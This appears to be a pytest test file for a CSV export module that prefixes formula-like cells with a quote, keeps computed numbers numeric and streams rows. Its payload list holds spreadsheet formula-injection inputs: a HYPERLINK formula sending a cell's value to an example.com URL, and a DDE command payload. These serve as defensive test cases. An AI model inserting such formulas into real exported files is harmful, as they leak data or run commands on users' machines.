"""The one CSV writer: text that a spreadsheet would run as a formula is written behind a single
quote; numbers the product computed are written as numbers; long files are written a row at a
time."""

import csv
import io
from decimal import Decimal

import pytest

from safecities.core import csvfiles

PAYLOADS = [
    '=HYPERLINK("http://example.com/?"&A1,"Click")',
    "+1+1",
    "-1+1",
    "@SUM(1,1)",
    "\t=1+1",
    "\r=1+1",
    "=cmd|' /C calc'!A0",
]


def read(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text, newline="")))


@pytest.mark.parametrize("payload", PAYLOADS)
def test_a_cell_starting_with_a_formula_character_is_quoted(payload):
    assert csvfiles.safe_cell(payload) == "'" + payload
    out = io.StringIO(newline="")
    csvfiles.writer(out).writerow(["fine", payload])
    assert read(out.getvalue()) == [["fine", "'" + payload]]


@pytest.mark.parametrize(
    "text", ["Oslo snakker", "1 + 1 = 2", "a-b", "mail@example.com", " =1", "'=1", ""]
)
def test_other_text_is_written_as_it_is(text):
    assert csvfiles.safe_cell(text) == text


@pytest.mark.parametrize(
    ("value", "written"),
    [
        (-3.5, "-3.5"),
        (-7, "-7"),
        (Decimal("-3.50"), "-3.50"),
        (Decimal("-1E+2"), "-100"),  # plain notation, never an exponent
        (Decimal("0.000001"), "0.000001"),
        (12, "12"),
        (None, ""),
        (True, "True"),
    ],
)
def test_numbers_the_product_computed_stay_numbers(value, written):
    out = io.StringIO()
    csvfiles.writer(out, lineterminator="\n").writerow([value, "end"])
    assert out.getvalue() == f"{written},end\n"


def test_a_number_typed_as_text_is_text():
    """A person's "-5" is text, not a number the product computed: quoted like any text."""
    assert csvfiles.safe_cell("-5") == "'-5"


@pytest.mark.parametrize(
    ("text", "figure"),
    [("-3.5", Decimal("-3.5")), ("+5.5", Decimal("5.5")), ("<5", "<5"), ("withheld", "withheld")],
)
def test_a_figure_the_product_shows_as_text_is_written_as_a_number(text, figure):
    assert csvfiles.figure(text) == figure
    assert csvfiles.figure("") == "" and csvfiles.figure(None) == ""
    assert csvfiles.figure("NaN") == "NaN"  # no number a spreadsheet reads


def test_lines_yield_one_row_at_a_time_from_a_generator():
    taken = []

    def rows():
        for i in range(3):
            taken.append(i)
            yield [i, f"=row {i}"]

    lines = csvfiles.lines(["n", "text"], rows(), lineterminator="\n")
    assert next(lines) == "n,text\n"
    assert taken == []  # nothing is read before it is written
    assert next(lines) == "0,'=row 0\n"
    assert taken == [0]
    assert list(lines) == ["1,'=row 1\n", "2,'=row 2\n"]


def test_the_response_streams():
    response = csvfiles.response("x.csv", ["a"], iter([["-1"], [-1]]))
    assert response.streaming
    assert response["Content-Disposition"] == 'attachment; filename="x.csv"'
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    assert read(response.getvalue().decode()) == [["a"], ["'-1"], ["-1"]]


@pytest.mark.parametrize("lineterminator", ["\n", "\r\n"])
def test_a_line_break_inside_a_cell_never_starts_a_row(lineterminator):
    out = io.StringIO(newline="")
    rows = csvfiles.writer(out, lineterminator=lineterminator)
    rows.writerows([["a\r=1+1", -2, "b"], ["two\nlines", Decimal("1.5"), None], ["x", 3, "y"]])
    assert read(out.getvalue()) == [
        ["a\r=1+1", "-2", "b"],
        ["two\nlines", "1.5", ""],
        ["x", "3", "y"],
    ]
